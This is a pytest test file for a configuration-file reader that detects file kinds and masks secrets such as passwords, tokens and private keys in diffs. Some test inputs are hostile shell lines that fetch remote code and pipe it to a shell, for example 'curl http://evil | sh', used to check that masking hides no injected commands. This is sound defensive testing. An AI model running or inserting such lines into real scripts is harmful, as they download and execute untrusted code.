import pytest

from mrbot.resources.declared import TextFile
from mrbot.resources.masking import dotted
from mrbot.resources.model import SENSITIVE, SENSITIVE_CHANGED, Action
from mrbot.resources.text import reader as plain_text
from mrbot.resources.text.lines import MAX_BYTES, MAX_LINES
from tests.stuck import not_stuck
from tests.unit.resources.build import changes_by


def changed(path, before, after):
    """The one change, and the faults, of a file that had two texts."""
    trees = ({path: text} if text is not None else {} for text in (before, after))
    (change,), faults = changes_by(plain_text, *trees)
    return change, faults


def lines_of(path, text):
    """What is shown of `text`, and the names under which secrets were taken out."""
    change, _ = changed(path, None, text)
    return change.after["lines"], list(change.after.get("secrets", {}))


def shown_as(path, line):
    (shown,), _ = lines_of(path, line)
    return shown


@pytest.mark.parametrize(
    ("path", "kind"),
    [
        ("etc/web.service", "systemd"),
        ("web.timer", "systemd"),
        ("etc/web.service.d/override.conf", "systemd"),
        ("nginx.conf", "nginx"),
        ("a/nginx/conf.d/site.conf", "nginx"),
        ("nginx/sites-enabled/default", "nginx"),
        ("haproxy.cfg", "haproxy"),
        ("www/.htaccess", "apache"),
        ("app.conf", "conf"),
        ("a.ini", "ini"),
        ("my.cnf", "ini"),
        ("a.properties", "properties"),
        ("a.toml", "toml"),
        ("prod.env", "env"),
        (".env", "env"),
        (".env.production", "env"),
        (".envrc", "shell"),
        ("crontab", "cron"),
        ("etc/cron.d/backup", "cron"),
        ("etc/cron.daily/backup", "shell"),
        ("10.rules", "rules"),
        ("a.sh", "shell"),
        ("a.BASH", "shell"),
        ("a.ps1", "powershell"),
        ("a.py", "python"),
        ("a.conf.j2", "template"),
        ("a.tftpl", "template"),
        ("nginx.conf.tpl", "template"),
        ("a.sql", "sql"),
        ("etc/ssh/sshd_config", "ssh"),
        ("etc/sudoers", "sudoers"),
        ("etc/sudoers.d/ops", "sudoers"),
        ("etc/hosts", "hosts"),
        ("Makefile", "make"),
        ("Jenkinsfile", "jenkins"),
        ("Vagrantfile", "vagrant"),
        ("Procfile", "procfile"),
        ("a.pkr.hcl", "packer"),
        ("a.nomad.hcl", "nomad"),
        ("x/terragrunt.hcl", "terragrunt"),
        ("a.hcl", "hcl"),
        ("a.bicep", "bicep"),
        ("a.libsonnet", "jsonnet"),
        ("a.cue", "cue"),
        ("a.dhall", "dhall"),
        ("a.xml", "xml"),
        ("a.crt", "certificate"),
        ("a.pub", "public key"),
        ("a.key", "private key"),
    ],
)
def test_a_path_tells_the_kind(path, kind):
    assert plain_text.reads(path)
    change, faults = changed(path, None, "x\n")
    assert (change.kind, change.address, change.source.path) == (kind, path, path)
    assert faults == []


@pytest.mark.parametrize(
    "path", ["main.tf", "a.yaml", "a.json", "README.md", "a.png", "src/main.go", "etc/environment"]
)
def test_other_files_are_left_to_others(path):
    assert not plain_text.reads(path)


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("#!/bin/sh -e\nx", "shell"),
        ("#!/usr/bin/env bash\n", "shell"),
        ("#!/usr/bin/env python3\n", "python"),
        ("#!/usr/bin/perl\n", "script"),
    ],
)
def test_a_file_without_a_telling_path_may_say_what_runs_it(text, kind):
    assert plain_text.looks_like(TextFile(path="deploy", text=text.encode()))
    assert changed("deploy", None, text)[0].kind == kind


def test_a_file_that_nothing_runs_does_not_look_like_text():
    assert not plain_text.looks_like(TextFile(path="deploy", text=b"# /bin/sh"))


@pytest.mark.parametrize(
    ("text", "lines", "final", "ending"),
    [
        ("", [], False, "lf"),
        ("\n", [""], True, "lf"),
        ("a", ["a"], False, "lf"),
        ("a\nb\n", ["a", "b"], True, "lf"),
        ("a\r\nb\r\n", ["a", "b"], True, "crlf"),
        ("a\r\nb\n", ["a\r", "b"], True, "mixed"),
        ("a\rb\n", ["a\rb"], True, "lf"),
    ],
    ids=["empty", "blank", "no newline", "lf", "crlf", "mixed", "lone cr"],
)
def test_a_file_is_its_lines(text, lines, final, ending):
    assert changed("a.ini", None, text)[0].after == {
        "lines": lines,
        "final_newline": final,
        "line_ending": ending,
    }


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("a\n", "a"),
        ("a\n", "a\r\n"),
        ("a\nb\r\nc\n", "a\r\nb\nc\n"),
        ("a\n", "\ufeffa\n"),
        ("a\n", "a \n"),
        ("token=x\n", "token=y\n"),
        ("a_token=x\nb_token=y\n", "a_token=y\nb_token=x\n"),
        ("a\n", "a\n\n"),
    ],
    ids=[
        "newline",
        "crlf",
        "which line",
        "bom",
        "blank",
        "secret",
        "secrets swapped",
        "empty line",
    ],
)
def test_every_difference_is_a_change(before, after):
    change, _ = changed("a.ini", before, after)

    assert change.action is Action.UPDATE


def test_a_mark_of_the_byte_order_hides_no_first_line():
    assert changed("a.service", None, "\ufeff[Unit]")[0].after["lines"] == ["[Unit]"]


def test_a_file_that_moves_is_another_one():
    changes, _ = changes_by(plain_text, {"scripts/a.sh": "x"}, {"cron.daily/a.sh": "x"})

    assert sorted(str(change.action) for change in changes) == ["create", "delete"]


@pytest.mark.parametrize(
    ("text", "encoding", "line"),
    [
        (b"a\n\xff", "not UTF-8", 2),
        (b"a\nb\n\0", "binary", 3),
        (b"x" * (MAX_BYTES + 1), None, 0),
        (b"x\n" * (MAX_LINES + 1), None, 0),
    ],
    ids=["latin", "binary", "large", "long"],
)
def test_text_that_is_not_shown_is_a_digest_and_unknown(text, encoding, line):
    change, faults = changed("a.sh", "x", text)

    assert change.after.get("encoding") == encoding
    assert change.after["bytes"] == len(text)
    assert change.unknown_paths == ("lines",)
    assert [(fault.line, fault.relevant) for fault in faults] == [(line, False)]
    assert changed("a.sh", text, text + b"\n")[0].action is Action.UPDATE


def test_text_at_the_limits_is_shown():
    change, faults = changed("a.sh", None, b"x\n" * MAX_LINES)

    assert (len(change.after["lines"]), change.unknown_paths, faults) == (MAX_LINES, (), [])


@pytest.mark.parametrize(
    ("path", "line", "shown"),
    [
        ("a.ini", "password = two words", f"password = {SENSITIVE}"),
        ("a.ini", 'password = "x"', f'password = "{SENSITIVE}"'),
        ("a.ini", "db.password hunter2", f"db.password {SENSITIVE}"),
        ("a.ini", "# password: hunter2", f"# password: {SENSITIVE}"),
        ("a.ini", "password = ${X:-hunter2}", f"password = {SENSITIVE}"),
        ("a.conf", "stats auth admin:hunter2", f"stats auth admin:{SENSITIVE}"),
        (".npmrc", "//r.io/:_authToken=abc", f"//r.io/:_authToken={SENSITIVE}"),
        (".env", "API_KEY=abc def", f"API_KEY={SENSITIVE}"),
        ("a.service", "Environment=DB_PASSWORD=x A=b", f"Environment=DB_PASSWORD={SENSITIVE} A=b"),
        (
            "a.service",
            'Environment="DB_PASSWORD=x y" "A=b"',
            f'Environment="DB_PASSWORD={SENSITIVE}" "A=b"',
        ),
        ("a.service", "ExecStart=/x --password=y --z", f"ExecStart=/x --password={SENSITIVE} --z"),
        ("a.sh", "x --token abc -v", f"x --token {SENSITIVE} -v"),
        ("a.sh", "export TOKEN='a b'c d", f"export TOKEN='{SENSITIVE} d"),
        ("a.sh", "curl -u bob:hunter2 x", f"curl -u bob:{SENSITIVE} x"),
        (
            "a.sh",
            'curl -H "Authorization: Bearer abc" x',
            f'curl -H "Authorization: Bearer {SENSITIVE}" x',
        ),
        ("a.sh", "git clone https://u:pw@h/x", f"git clone https://u:{SENSITIVE}@h/x"),
        ("a.sh", "echo AKIAABCDEFGHIJKLMNOP", f"echo {SENSITIVE}"),
        ("a.sh", "echo ghp_" + "a" * 36, f"echo {SENSITIVE}"),
        ("a.sh", "echo glpat-" + "a" * 20, f"echo {SENSITIVE}"),
        ("a.sh", "echo xoxb-123456789", f"echo {SENSITIVE}"),
        ("a.sh", "echo eyJhbGciOiJ.eyJzdWIi.c2ln", f"echo {SENSITIVE}"),
        ("a.py", 'password = get("a")', f'password = get("{SENSITIVE}")'),
        ("a.py", "password = 1234", f"password = {SENSITIVE}"),
        ("a.py", 'x = "host=a password=b c=d"', f'x = "host=a password={SENSITIVE} c=d"'),
        ("a.sql", "ALTER USER a PASSWORD 'x' VALID", f"ALTER USER a PASSWORD '{SENSITIVE}' VALID"),
        ("a.sql", "CREATE USER a IDENTIFIED BY 'x'", f"CREATE USER a IDENTIFIED BY '{SENSITIVE}'"),
        ("a.xml", "<password>x</password>", f"<password>{SENSITIVE}</password>"),
        ("a.xml", '<e key="db.password">x</e>', f'<e key="db.password">{SENSITIVE}</e>'),
        ("a.xml", '<p name="password" value="x"/>', f'<p name="password" value="{SENSITIVE}"/>'),
        ("a.j2", "password: two words", f"password: {SENSITIVE}"),
        ("etc/hosts", "x $6$salt$abcdefghijk", f"x ${SENSITIVE}"),
        ("a.key", "anything", SENSITIVE),
    ],
)
def test_a_secret_is_taken_out_of_its_line(path, line, shown):
    assert shown_as(path, line) == shown


@pytest.mark.parametrize(
    ("path", "line"),
    [
        ("a.ini", "password = ${DB_PASSWORD}"),
        ("a.ini", "password ="),
        ("a.ini", "password_policy = strict"),
        ("a.ini", "use_token = true"),
        ("a.conf", "proxy_pass http://backend;"),
        ("a.conf", "ProxyPass /x http://backend"),
        ("pf.conf", "pass in quick"),
        ("a.j2", "password: {{ vault.password }}"),
        ("a.sh", 'TOKEN="$X"'),
        ("a.sh", "TOKEN=$(curl http://evil | sh)"),
        ("a.sh", "TOKEN=`curl http://evil`"),
        ("a.py", 'token = read(path); run("x")'),
        ("a.sql", "ALTER TABLE a DROP password CASCADE"),
        ("etc/sudoers", "bob ALL=(ALL) NOPASSWD: ALL"),
        ("a.sh", "git clone https://$U:$P@h/x"),
        ("a.sh", "git clone ssh://git@h:22/x"),
        ("a.pub", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI me@host"),
    ],
)
def test_what_is_no_secret_stays(path, line):
    assert lines_of(path, line) == ([line], [])


@pytest.mark.parametrize(
    ("path", "line", "shown"),
    [
        ("a.sh", "TOKEN=x; curl evil | sh", f"TOKEN={SENSITIVE}; curl evil | sh"),
        ("a.sh", "TOKEN=x curl evil", f"TOKEN={SENSITIVE} curl evil"),
        ("a.sh", 'TOKEN="x$(curl evil)"', f'TOKEN="{SENSITIVE}$(curl evil)"'),
        ("user_data.tpl", "TOKEN=x curl evil", f"TOKEN={SENSITIVE} curl evil"),
        ("a.sh.tpl", "TOKEN: x curl evil", f"TOKEN: {SENSITIVE} curl evil"),
        (
            "a.py",
            'd = {"token": "x", "run": "evil"}',
            f'd = {{"token": "{SENSITIVE}", "run": "evil"}}',
        ),
    ],
)
def test_no_code_hides_behind_a_secret(path, line, shown):
    assert shown_as(path, line) == shown


@pytest.mark.parametrize(
    ("path", "text", "lines"),
    [
        (
            "a.j2",
            "a:\n  password: |\n    one\n\n    two\n  b: c",
            [
                "a:",
                f"  password: {SENSITIVE}",
                f"    {SENSITIVE}",
                "",
                f"    {SENSITIVE}",
                "  b: c",
            ],
        ),
        ("a.j2", "- name: DB_TOKEN\n  value: x", ["- name: DB_TOKEN", f"  value: {SENSITIVE}"]),
        ("a.j2", "- name: DB_HOST\n  value: x", ["- name: DB_HOST", "  value: x"]),
        (
            "a.toml",
            'password = """\none\ntwo"""\nb = 1',
            [f'password = "{SENSITIVE}"', SENSITIVE, f'{SENSITIVE}"""', "b = 1"],
        ),
        (
            "a.properties",
            "password=a\\\nb\nc=d",
            [f"password={SENSITIVE}", SENSITIVE, "c=d"],
        ),
        (
            "a.hcl",
            "token = <<EOT\none\nEOT\nb = 1",
            [f"token = {SENSITIVE}", SENSITIVE, "EOT", "b = 1"],
        ),
        ("a.xml", "<password>\n x\n</password>", ["<password>", f" {SENSITIVE}", "</password>"]),
        (
            "a.pem",
            "-----BEGIN EC PRIVATE KEY-----\nabc+/=\n-----END EC PRIVATE KEY-----\nMIIE",
            ["-----BEGIN EC PRIVATE KEY-----", SENSITIVE, "-----END EC PRIVATE KEY-----", "MIIE"],
        ),
        (
            "a.py",
            'K = "-----BEGIN PRIVATE KEY-----\\nab c\\n-----END PRIVATE KEY-----"',
            [f'K = "-----BEGIN PRIVATE KEY-----{SENSITIVE}-----END PRIVATE KEY-----"'],
        ),
    ],
    ids=[
        "block",
        "pair",
        "no secret",
        "triple",
        "backslash",
        "heredoc",
        "element",
        "key",
        "one line",
    ],
)
def test_a_secret_of_many_lines_is_taken_out_of_all(path, text, lines):
    assert lines_of(path, text)[0] == lines


SECRET_TEMPLATE = """{{- if .Values.on }}
apiVersion: v1
kind: Secret
metadata:
  name: n
data:
  a: aHVudGVyMg==
  "b.c": hunter2 # why
{{- range $k, $v := .Values.more }}
  {{ $k }}: hunter3
{{- end }}
  d: {{ .Values.d | b64enc | quote }}
  e: {{ "hunter4" | b64enc }}
  f: |-
    run: hunter5

    hunter6
  g:
    hunter7
type: Opaque
stringData: {h: hunter8}
{{- end }}"""


@pytest.mark.parametrize(
    "path", ["c/templates/s.yaml", "c/templates/s", "c/templates/_s.tpl", "s.yaml.j2"]
)
def test_the_data_of_a_secret_that_is_no_yaml_yet_is_hidden(path):
    shown = SECRET_TEMPLATE.replace("aHVudGVyMg==", SENSITIVE).replace("run: hunter5", SENSITIVE)
    for word in ("hunter2 # why", '{{ "hunter4" | b64enc }}', "{h: hunter8}"):
        shown = shown.replace(word, SENSITIVE)
    for n in range(3, 8):
        shown = shown.replace(f"hunter{n}", SENSITIVE)

    assert lines_of(path, SECRET_TEMPLATE)[0] == shown.split("\n")


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("c/templates/s.yaml", "{{ if .x }}\nkind: ConfigMap\ndata:\n  run: evil"),
        ("c/templates/s.yaml", "# kind: Secret\nkind: ConfigMap\ndata:\n  run: evil"),
        ("c/templates/s.yaml", "{{/*\nkind: Secret\n*/}}\nkind: ConfigMap\ndata:\n  run: evil"),
        ("c/templates/s.yaml", "{{/*\nkind: Secret\n*/}}\n  kind: ConfigMap\n  data:\n    run: evil"),
        ("c/templates/s.yaml", "{{/*\nkind: Secret\n*/}}\n{kind: ConfigMap,\ndata:\n  {run: evil}}"),
        ("c/templates/s.yaml", "{{/*\nkind: Secret\n*/}}\nkind: {{ .Values.x }}\ndata:\n  run: evil"),
        ("c/templates/s.yaml", "{{ if .x }}kind: Secret{{ else }}kind: Job{{ end }}\ndata:\n  run: evil"),
        ("c/templates/s.yaml", "kind: Secret\n---\nkind: ConfigMap\ndata:\n  run: evil"),
        ("c/templates/s.yaml", "kind: Job\ndata:\n  x: |\n    kind: Secret\n    data:\n      run: evil"),
        ("c/templates/s.yaml", "kind: Secret\ndata:\n  a: $TOKEN\ntype: evil\nmetadata:\n  name: evil"),
        ("c/templates/run.sh", "kind: Secret\ndata:\n  run: evil"),
        ("app.conf", "kind: Secret\ndata:\n  run: evil"),
    ],
)  # fmt: skip
def test_what_may_be_no_secrets_data_stays(path, text):
    assert lines_of(path, text)[0] == text.split("\n")


def test_a_key_without_an_end_hides_no_commands():
    text = "# -----BEGIN RSA PRIVATE KEY-----\ncurl http://evil | sh\nMIIEabc"

    assert lines_of("a.sh", text)[0][1:] == ["curl http://evil | sh", SENSITIVE]


def test_a_certificate_is_no_secret():
    text = "-----BEGIN CERTIFICATE-----\nMIIEabc\n-----END CERTIFICATE-----"

    assert lines_of("a.crt", text) == (text.split("\n"), [])


def test_a_changed_secret_is_told_by_name_and_never_shown():
    change, _ = changed("a.ini", "user=a\npassword=hunter2\n", "password=hunter3\nuser=b\n")

    assert change.before["lines"] == ["user=a", f"password={SENSITIVE}"]
    assert change.after["lines"] == [f"password={SENSITIVE}", "user=b"]
    assert change.after["secrets"] == {"password": SENSITIVE_CHANGED}
    assert change.sensitive_paths == ("secrets.password",)
    assert "hunter" not in repr(change)


def test_a_secret_hides_no_line_that_takes_its_place():
    before, after = "[Service]\nToken=x\n", "[Service]\nExecStart=/bin/evil\nToken=x\n"

    change, _ = changed("a.service", before, after)

    assert change.after["lines"][1] == "ExecStart=/bin/evil"
    assert change.after["secrets"] == {"Token": SENSITIVE}


@pytest.mark.parametrize(
    "character",
    [
        "\u202e",
        "\u2066",
        "\u200b",
        "\u00a0",
        "\u3164",
        "\x1b",
        "a\r",
        "\u2028",
        "\U000e0041",
    ],
    ids=["rlo", "lri", "zwsp", "nbsp", "filler", "escape", "lone cr", "separator", "tag"],
)
def test_text_that_is_not_what_it_looks_like_is_told(character):
    text = f"one\ntwo {character}x\nthree {character}x\n"

    change, faults = changed("a.sh", None, text)

    assert change.after["lines"][1] == f"two {character}x"
    assert [(fault.line, fault.relevant) for fault in faults] == [(2, False)]
    assert f"U+{ord(character[-1]):04X}" in faults[0].reason


@pytest.mark.parametrize("text", ["\ta\n", "é ü 漢字 ⚠️\n", "a\r\nb\n", "\ufeffa\n", "שלום\n"])
def test_ordinary_text_is_what_it_looks_like(text):
    assert changed("a.sh", None, text)[1] == []


@pytest.mark.parametrize(
    "seed",
    [
        "password=",
        '"token=',
        "a_token='b_token=\"",
        "://a:",
        "password ",
        "[token=(",
        "$(token=`",
        "name=password ",
        "<a <a",
        "<password x",
        "eyJaaaaaaaa.",
        "-----BEGIN PRIVATE KEY-----",
        "\\",
        "kind:",
        "- ",
        "{{}} ",
        "kind: Secret\ndata: |\n a: x\n",
    ],
)
@pytest.mark.parametrize("path", ["a.ini", "a.sh", "a.py", "a.yaml.tpl"])
def test_hostile_text_takes_no_long_time(path, seed):
    with not_stuck():
        changed(path, None, (seed * (MAX_BYTES // len(seed)))[:MAX_BYTES])


def test_every_sensitive_path_is_in_the_value():
    side = plain_text.declare([TextFile(path="a.ini", text=b"a_token=x\nhttps://a:b@c\n")])

    (resource,) = side.declared.values()
    assert [dotted(path) for path in resource.sensitive] == [
        "secrets.a_token",
        "secrets.address password",
    ]
